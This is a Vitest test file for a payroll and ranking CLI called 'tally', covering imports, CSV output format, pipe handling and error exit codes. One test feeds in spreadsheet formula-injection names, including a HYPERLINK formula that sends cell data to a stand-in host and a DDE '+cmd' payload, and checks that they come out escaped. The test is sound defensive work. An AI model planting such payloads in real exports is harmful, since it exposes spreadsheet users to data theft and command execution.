// The real command a team lead types, as a separate process: `npm run -s tally -- ...`.
import { execFile, spawn } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { describe, expect, it } from 'vitest';
import { freshDatabaseUrl } from '../support/db.js';

const run = promisify(execFile);

describe('tally command', () => {
  it('imports the examples and prints the month ranking and payroll as JSON', async () => {
    const env = { ...process.env, DATABASE_URL: await freshDatabaseUrl(), TALLY_NOW: '2026-11-05T10:00:00+08:00' };
    const tally = (...args: string[]) => run('node', ['bin/tally.mjs', ...args], { env });
    await tally('roster', 'import', 'examples/roster.csv');
    const imported = await tally('metrics', 'import', 'examples/metrics.csv');
    expect(imported.stdout).toMatch(
      /Imported examples\/metrics\.csv: 695 rows for 12 members, 2026-09-01 to 2026-10-31\./,
    );
    const rank = JSON.parse((await tally('rank', '--month', '2026-10', '--track', 'presales', '--json')).stdout);
    expect(rank.rows).toHaveLength(8);
    const pay = await run('npm', ['run', '-s', 'tally', '--', 'payroll', '--month', '2026-10', '--json'], { env });
    expect(JSON.parse(pay.stdout).rows).toHaveLength(15);
  });

  it(
    'writes the payroll file to stdout as it is: BOM, CRLF, no formula in any name',
    { timeout: 180_000 },
    async () => {
      const env = { ...process.env, DATABASE_URL: await freshDatabaseUrl(), TALLY_NOW: '2026-11-05T10:00:00+08:00' };
      const tally = (...args: string[]) => run('node', ['bin/tally.mjs', ...args], { env });
      await tally('demo');
      // names that Excel would run as formulas reach the leads' file as text
      const roster = join(mkdtempSync(join(tmpdir(), 'tally-bin-')), 'names.csv');
      writeFileSync(
        roster,
        'slack_id,name,track,level,hired_on\nU00001001,"=HYPERLINK(""http://x/?""&A1,""click"")",presales,regular,2025-05-20\n' +
          "U00001002,+cmd|' /C calc'!A0,presales,regular,2025-10-07\nU00001003,-2+3,aftersales,regular,2024-03-02\nU00001005,@SUM(1+1),presales,regular,2025-11-10\n",
      );
      await tally('roster', 'import', roster);
      const csv = (await tally('payroll', '--month', '2026-10', '--csv')).stdout;
      expect(csv.startsWith('\uFEFF客服ID,姓名,')).toBe(true);
      expect(csv.endsWith('\r\n')).toBe(true);
      expect(csv.split('\r\n')).toHaveLength(15 + 2);
      for (const name of ['"\'=HYPERLINK(""http://x/?""&A1,""click"")"', "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(1+1)"])
        expect(csv).toContain(`,${name},`);
    },
  );

  it('ends quietly when the reader of its output goes away (tally rank ... | head)', { timeout: 180_000 }, async () => {
    const env = { ...process.env, DATABASE_URL: await freshDatabaseUrl(), TALLY_NOW: '2026-11-05T10:00:00+08:00' };
    for (const args of [
      ['rank', '--month', '2026-10'],
      ['payroll', '--month', '2026-10', '--csv'],
    ]) {
      const child = spawn('node', ['bin/tally.mjs', ...args], { env, stdio: ['ignore', 'pipe', 'pipe'] });
      // the reader closes before Tally has written a byte
      child.stdout.destroy();
      let stderr = '';
      child.stderr.setEncoding('utf8').on('data', (s: string) => (stderr += s));
      const code = await new Promise((resolve) => child.on('close', (c, signal) => resolve(c ?? signal)));
      expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
    }
  });

  it('exits 1 with one line on stderr for bad input, 2 for a usage error', async () => {
    const env = { ...process.env, DATABASE_URL: await freshDatabaseUrl(), TALLY_NOW: '2026-11-05T10:00:00+08:00' };
    const bad = await run('node', ['bin/tally.mjs', 'rank', '--month', '2026-13'], { env }).catch((e) => e);
    expect(bad.code).toBe(1);
    expect(bad.stderr).toBe('error: "2026-13" is not a month (YYYY-MM)\n');
    const usage = await run('node', ['bin/tally.mjs', 'penalty', 'add', 'U1'], { env }).catch((e) => e);
    expect(usage.code).toBe(2);
    expect(usage.stderr).toMatch(/required option '--by <slack_id>' not specified/);
    const badNow = await run('node', ['bin/tally.mjs', 'rank', '--month', '2026-10'], {
      env: { ...env, TALLY_NOW: 'tomorrow' },
    }).catch((e) => e);
    expect(badNow.code).toBe(1);
    expect(badNow.stderr).toMatch(/^error: TALLY_NOW: "tomorrow" is not ISO 8601 with an offset or Z/);
  });
});
